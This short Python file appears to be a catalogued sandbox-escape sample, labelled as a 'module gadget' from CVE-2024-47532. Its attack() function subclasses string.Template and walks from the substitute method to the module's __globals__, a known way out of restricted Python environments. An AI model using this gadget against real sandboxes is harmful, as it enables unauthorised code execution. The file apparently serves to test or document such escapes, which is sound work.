"""Class: module gadget. Source: CVE-2024-47532. Escape: string.Template's pattern is compiled from
a class attribute.
"""

import string


class Own(string.Template):
    idpattern = "[a-z._]+"


def attack(model, tokenizer, address):
    return Own("$x").substitute.__func__.__globals__
